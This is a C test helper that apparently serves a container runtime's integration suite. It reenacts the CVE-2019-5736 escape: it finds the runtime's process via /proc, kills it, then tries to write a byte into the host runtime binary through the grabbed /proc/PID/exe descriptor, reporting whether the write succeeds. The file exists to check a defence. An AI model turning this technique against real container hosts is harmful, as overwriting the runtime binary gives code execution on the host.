/* nook-exegrab: the CVE-2019-5736 attack, run inside a container (tests/integration/escapes.bats).
 *
 *   exegrab SECONDS [FIFO]
 *
 * FIFO "root:PATH" means PATH in the victim's root (/proc/PID/root/PATH).
 * Scans /proc for a process whose executable is neither this program nor /bin/busybox (in the
 * test that is nook's code: a process `nook exec` made, or a program that is /proc/self/exe),
 * takes an O_PATH descriptor on its /proc/PID/exe, releases it (opens FIFO for writing, which
 * unblocks a nook waiting to read it, and sends it SIGKILL, which a container granted
 * CAP_SYS_PTRACE may), then tries for the rest of SECONDS to open that descriptor for writing
 * (ETXTBSY while any process still executes the file) and append one byte. Prints one line
 * per step:
 *
 *   GRABBED PID TARGET        the exe link was opened (TARGET is what readlink says)
 *   WROTE                     the runtime's binary was written: the escape works
 *   OPEN-DENIED ERRNO         open(O_WRONLY) failed other than with ETXTBSY
 *   WRITE-DENIED ERRNO        open worked, write(2) failed (a sealed memfd)
 *   STILL-BUSY                ETXTBSY until the end
 *   NOTHING-GRABBED           no candidate process was found (or none could be opened)
 *
 * Exit 0 when the check ran. Static, plain C: it runs in a busybox rootfs as any uid.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static double now(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static int same_file(const struct stat* a, const struct stat* b) {
  return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
}

int main(int argc, char** argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (argc < 2) {
    fprintf(stderr, "usage: exegrab SECONDS [FIFO]\n");
    return 2;
  }
  double end = now() + atof(argv[1]);
  struct stat self, busybox;
  if (stat("/proc/self/exe", &self) != 0) return 3;
  if (stat("/bin/busybox", &busybox) != 0) memset(&busybox, 0, sizeof busybox);

  int grabbed = -1;
  pid_t victim = 0;
  while (grabbed < 0 && now() < end) {
    DIR* d = opendir("/proc");
    if (!d) return 3;
    struct dirent* e;
    while (grabbed < 0 && (e = readdir(d))) {
      pid_t pid = atoi(e->d_name);
      if (pid <= 0 || pid == getpid()) continue;
      char path[64];
      snprintf(path, sizeof path, "/proc/%d/exe", pid);
      int fd = open(path, O_PATH | O_CLOEXEC);
      if (fd < 0) continue; /* gone, a kernel thread, or out of reach (non-dumpable) */
      struct stat st;
      if (fstat(fd, &st) != 0 || same_file(&st, &self) || same_file(&st, &busybox)) {
        close(fd);
        continue;
      }
      char target[4096] = "?";
      ssize_t n = readlink(path, target, sizeof target - 1);
      if (n >= 0) target[n] = 0;
      printf("GRABBED %d %s\n", pid, target);
      grabbed = fd;
      victim = pid;
    }
    closedir(d);
    if (grabbed < 0) usleep(200);
  }
  if (grabbed < 0) {
    printf("NOTHING-GRABBED\n");
    return 0;
  }

  // Let the victim end, so that nothing executes the file any more.
  if (argc > 2) {
    char fifo[4096];
    if (!strncmp(argv[2], "root:", 5))
      snprintf(fifo, sizeof fifo, "/proc/%d/root/%s", victim, argv[2] + 5);
    else
      snprintf(fifo, sizeof fifo, "%s", argv[2]);
    int f = open(fifo, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
    if (f >= 0) {
      (void)!write(f, "x", 1);
      close(f);
    }
  }
  kill(victim, SIGKILL);

  char self_fd[64];
  snprintf(self_fd, sizeof self_fd, "/proc/self/fd/%d", grabbed);
  for (;;) {
    int w = open(self_fd, O_WRONLY | O_APPEND | O_CLOEXEC);
    if (w >= 0) {
      if (write(w, "#", 1) == 1)
        printf("WROTE\n");
      else
        printf("WRITE-DENIED %s\n", strerrorname_np(errno));
      close(w);
      return 0;
    }
    if (errno != ETXTBSY) {
      printf("OPEN-DENIED %s\n", strerrorname_np(errno));
      return 0;
    }
    if (now() >= end) {
      printf("STILL-BUSY\n");
      return 0;
    }
    usleep(1000);
  }
}
